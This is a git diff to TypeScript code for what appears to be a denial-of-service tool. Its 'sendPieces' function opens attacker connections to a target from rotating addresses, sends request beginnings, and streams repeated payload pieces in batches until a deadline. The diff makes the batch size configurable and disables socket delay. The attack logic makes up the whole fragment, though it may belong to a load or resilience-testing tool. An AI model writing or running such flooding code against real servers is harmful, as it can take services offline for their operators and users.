@@ -17,15 +17,16 @@ export async function attackByPieces(tactic: PiecesTactic, outcome: AttackOutcom
 }
 
 async function sendPieces(tactic: PiecesTactic, number: number, outcome: AttackOutcome, endAt: number): Promise<void> {
-  const { target, beginnings, piece, pieces, addresses } = tactic
+  const { target, beginnings, piece, pieces, atOnce = piecesAtOnce, addresses } = tactic
   const connection = new AttackerConnection(target, outcome, addressOf(number, addresses))
   const { socket, closed } = connection
   socket.on('data', (chunk: Buffer) => (outcome.bytes += chunk.length))
+  socket.setNoDelay(true)
   socket.write(beginnings[number % beginnings.length] ?? '', 'latin1')
-  const batch = Buffer.from(piece.repeat(piecesAtOnce), 'latin1')
+  const batch = Buffer.from(piece.repeat(atOnce), 'latin1')
   const isOver = () => socket.destroyed || Date.now() >= endAt
   const untilEnd = (mostMs = Infinity) => pause(Math.min(mostMs, Math.max(0, endAt - Date.now())))
-  for (let sent = 0; sent < pieces && !isOver(); sent += piecesAtOnce) {
+  for (let sent = 0; sent < pieces && !isOver(); sent += atOnce) {
     // the connections take turns
     if (socket.write(batch)) await pause(0)
     else await Promise.race([new Promise<void>((resolve) => socket.once('drain', resolve)), closed, untilEnd()])
